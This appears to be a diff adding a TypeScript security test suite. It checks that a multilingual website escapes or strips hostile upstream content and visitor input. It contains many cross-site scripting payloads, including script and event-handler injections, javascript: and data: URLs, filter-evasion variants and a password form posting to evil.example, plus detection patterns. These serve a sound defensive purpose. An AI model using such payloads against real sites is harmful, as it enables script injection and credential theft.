@@ -1,0 +1,153 @@
+// Hostile texts, URLs and rich text of the upstream, and hostile input of visitors: a page has the elements that it should.
+import t, { type Test } from 'tap'
+import { ask } from '../../helpers/ask.ts'
+import { elementsOf, structureOf } from '../../helpers/elements.ts'
+import { find, unescapeHtml } from '../../helpers/html.ts'
+import { botAgent } from '../../helpers/site.ts'
+import { createSmallSite } from '../../helpers/small-site.ts'
+import { type Change, everyPage, fixedFields, respondWithAll, urlFields } from '../../helpers/whole-origin.ts'
+import { words } from '../../helpers/words.ts'
+
+const isUrl = (field: string) => urlFields.includes(field)
+const isText = (field: string) => ![...fixedFields, ...urlFields, 'body'].includes(field)
+
+/** Every page of a site with changed texts of the upstream, by its URL. */
+async function pagesOf(t: Test, change: Change, urls = everyPage): Promise<Map<string, string>> {
+  const site = await createSmallSite(t)
+  respondWithAll(site.origin, change)
+  const pages = new Map<string, string>()
+  for (const url of urls) {
+    const { statusCode, body } = await site.get(url, url === '/en/fr' ? {} : { 'user-agent': botAgent })
+    t.equal(statusCode, url === '/en/fr' ? 404 : 200, url)
+    pages.set(url, body)
+  }
+  return pages
+}
+
+const texts = [
+  '<script>alert(1)</script></script>"><img src=x onerror=alert(1)>" onmouseover="alert(1)\' autofocus=\'',
+  '<!--</title></textarea></style></noscript></template><svg onload=alert(1)>--!>',
+  '\u2028\u2029]]>{{keywords}}$t(nav.home)$&\\u003c/script>javascript:alert(1)',
+]
+const quoted = '/x" onmouseover="alert(1)\'><script>alert(1)</script>\u2028'
+
+t.test('a text or URL of the upstream creates no element and no attribute', async (t) => {
+  const harmless = await pagesOf(t, (value, field) => (isUrl(field) ? '/x' : value))
+  const changes: Change[] = [
+    ...texts.map(
+      (text): Change =>
+        (value, field) =>
+          isUrl(field) ? '/x' : isText(field) ? text : value,
+    ),
+    (value, field) => (isUrl(field) ? quoted : value),
+  ]
+  for (const [at, change] of changes.entries())
+    for (const [url, html] of await pagesOf(t, change)) {
+      t.strictSame(structureOf(html), structureOf(harmless.get(url) ?? ''), `${url}: ${at}`)
+      const footer = find(html, /<footer[^>]*>(.*)<\/footer>/s)
+      if (footer && texts[at]) t.ok(unescapeHtml(footer).includes(texts[at]), `${url}: the text is kept`)
+    }
+})
+
+const unsafe = [
+  ...words(String.raw`
+    javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x //evil.example/x /\evil.example
+    \\evil.example https:evil.example
+  `),
+  ...[' JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', '/\t/evil.example'],
+]
+const leading = words('href src srcset srcSet action formaction poster data ping content')
+
+t.test('an unsafe URL of the upstream is in no attribute', async (t) => {
+  let next = 0
+  for (const _round of [1, 2])
+    for (const [url, html] of await pagesOf(t, (value, field) =>
+      isUrl(field) ? unsafe[next++ % unsafe.length]! : value,
+    )) {
+      const values = elementsOf(html).flatMap(({ attributes }) =>
+        leading.map((name) => attributes[name] ?? ''),
+      )
+      const found = values.filter((value) => /evil|alert|vbscript|^\s*(?:javascript|data):/i.test(value))
+      t.strictSame(found, [], url)
+    }
+})
+
+t.test('an unparsable URL and half a character break no page', async (t) => {
+  for (const address of ['https://[', 'https://%zz/', 'http://a:b:c/', 'mailto:%', '/%zz', '/\ud800'])
+    await pagesOf(t, (value, field) => (isUrl(field) ? address : value), [
+      '/en',
+      '/en/news/1',
+      '/en/download',
+    ])
+  await pagesOf(t, (value, field) => (isUrl(field) || fixedFields.includes(field) ? value : 'a\ud800b'))
+})
+
+const richText = [
+  '<script>alert(1)</script><scr<script>ipt>alert(1)</scr</script>ipt><script src=//evil.example></script>',
+  '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe><img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg><math><style><img src=x onerror=alert(1)></style></math>',
+  '<p style="position:fixed;inset:0" onclick="alert(1)" class="error-page" data-page="x">fixed</p><style>*{}</style>',
+  '<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a><a href="&#x6a;avascript:x">d</a>',
+  '<form action="//evil.example"><input name="password"><button formaction="javascript:x">go</button></form>',
+  '<base href="//evil.example/"><meta http-equiv="refresh" content="0"><link rel="stylesheet" href="//evil.example">',
+  '</div></article></main></body></html><h2 id="data">clobbered</h2><!-- --><![CDATA[<script>alert(1)</script>]]>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\u2028</script>',
+].join('')
+const tags = words('script style iframe svg math form input button base meta link noscript main')
+
+t.test('hostile rich text: no script, no other host, no element of the page', async (t) => {
+  const urls = words('/en/news/1 /en/detail_second /en/about /en/contact /en/manual/1 /en/news/1/4')
+  const bodyIs = (body: string) => pagesOf(t, (value, field) => (field === 'body' ? body : value), urls)
+  const [plain, hostile] = [await bodyIs('<p>plain</p>'), await bodyIs(richText)]
+  for (const [url, html] of hostile) {
+    const elements = elementsOf(html)
+    const count = (page: string, tag: string) => elementsOf(page).filter(({ name }) => name === tag).length
+    for (const tag of tags) t.ok(count(html, tag) <= count(plain.get(url) ?? '', tag), `${url} ${tag}`)
+    const attributes = elements.flatMap((element) => Object.entries(element.attributes))
+    const wrong = attributes.filter(
+      ([name, value]) =>
+        /^on|^style$|^srcdoc$/.test(name) || (name !== 'title' && /evil|alert|javascript:/i.test(value)),
+    )
+    t.strictSame(wrong, [], url)
+    t.equal(attributes.filter(([name]) => name === 'data-page').length, 1)
+    t.equal(attributes.filter(([name, value]) => name === 'id' && value === 'data').length, 1)
+    t.match(html.slice(0, html.indexOf('</main>')), 'clobbered', 'what is harmless stays where it belongs')
+  }
+})
+
+const input = '"><script>alert(1)</script><img src=x onerror=alert(1)>\'</title></script>'
+const encoded = encodeURIComponent(input)
+const written = input.replaceAll(' ', '+')
+
+t.test('hostile input of a visitor is escaped: a query, a path, a form, header fields', async (t) => {
+  const site = await createSmallSite(t)
+  const base = await site.listen()
+  const structure = async (path: string, options = {}) => structureOf((await ask(base, path, options)).body)
+  for (const path of ['/news?keywords=', '/contact?topic=', '/news?page=', '/?', '/news/1?']) {
+    const harmless = await structure(`${path}zzzz`)
+    for (const given of [encoded, written])
+      t.strictSame(await structure(path + given), harmless, path + given)
+  }
+  t.strictSame(await structure(`/zh/contact?sent=${encoded}`), await structure('/zh/contact?sent=%20'))
+  const missing = await structure('/zzzz')
+  for (const path of [`/${encoded}`, `/${written}`, `/fr/${written}`])
+    t.strictSame(await structure(path), missing, path)
+  const post = (text: string) =>
+    structure('/contact', {
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      body: new URLSearchParams({ message: text, topic: text, company: text }).toString(),
+    })
+  t.strictSame(await post(input), await post('zzzz'))
+  for (const name of ['user-agent', 'referer', 'cookie', 'accept-language', 'x-forwarded-host']) {
+    const headers = { [name]: name === 'cookie' ? `i18n_redirected=${input}` : input }
+    t.strictSame(await structure('/fr', { headers }), missing, name)
+  }
+  for (const headers of [{ 'user-agent': 'Googlebot/2.1' }, { accept: 'application/json' }]) {
+    const response = await ask(base, `/${written}`, { headers })
+    t.match(response.headers, {
+      'content-type': /^(?:text\/plain|application\/json); charset=utf-8$/,
+      'x-content-type-options': 'nosniff',
+    })
+  }
+})
